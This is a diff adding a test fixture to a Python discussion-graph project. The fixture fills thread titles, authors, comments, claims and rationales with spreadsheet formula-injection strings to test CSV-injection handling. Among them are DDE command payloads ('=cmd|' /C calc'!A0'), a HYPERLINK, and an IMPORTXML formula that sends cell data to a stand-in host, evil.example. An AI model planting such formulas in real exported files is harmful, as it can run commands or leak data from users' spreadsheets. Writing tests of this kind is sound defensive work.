@@ -163,3 +163,72 @@ def reference(claims: list[Claim], rels: list[Relation]) -> nx.MultiDiGraph:
 
 def within(g: nx.MultiDiGraph, focus: str, hops: int) -> dict[str, int]:
     return nx.single_source_shortest_path_length(nx.Graph(g.to_undirected()), focus, cutoff=hops)
+
+
+# Cells a spreadsheet would run (OWASP "CSV injection"): each starts with a formula character.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example","click me")',
+    "+1 for the article, it is right",
+    "-1, the article is wrong about dues",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTabbed in: =1+1",
+    "\r=2+3 after a carriage return",
+]
+
+
+def write_formulas(store: Store, tid: str = "t_formulas") -> Nasty:
+    """Write a thread whose title, authors, comments, claims and rationales start like
+    spreadsheet formulas (``FORMULAS``); return the models written."""
+    thread, _ = nasty_thread(tid, title=FORMULAS[0], url=None)
+    said = '=IMPORTXML("http://evil.example/?q="&A1, "//a") is what the article says.'
+    article = thread.posts[0].model_copy(update={"author": "=cmd|' /C calc'!A0", "text": said})
+    posts = [article]
+    claims = [
+        Claim(
+            id=claim_id(article.id, 0, len(said)),
+            post_id=article.id,
+            text=said,
+            quote=said,
+            start=0,
+            end=len(said),
+            extractor="test",
+        )
+    ]
+    for i, text in enumerate(FORMULAS, 1):
+        post = Post(
+            id=f"{tid}_p{i}",
+            thread_id=tid,
+            kind="comment",
+            author=FORMULAS[-i],
+            posted_at=START + timedelta(days=i),
+            position=i,
+            text=text,
+            parent_id=article.id,
+        )
+        posts.append(post)
+        claims.append(
+            Claim(
+                id=claim_id(post.id, 0, len(text)),
+                post_id=post.id,
+                text=text,
+                quote=text,
+                start=0,
+                end=len(text),
+                extractor="test",
+            )
+        )
+    thread = thread.model_copy(update={"posts": posts})
+    rels = [
+        Relation(
+            source=claims[i].id,
+            target=claims[i - 1].id,
+            type="rebuts" if i % 2 else "supports",
+            confidence=0.5 + i / 20,
+            rationale=FORMULAS[i - 1],
+            extractor="test",
+        )
+        for i in range(1, len(claims))
+    ]
+    write_thread(store, thread)
+    write_extractions(store, [p.id for p in thread.posts], claims, rels, "test")
+    return thread, claims, rels
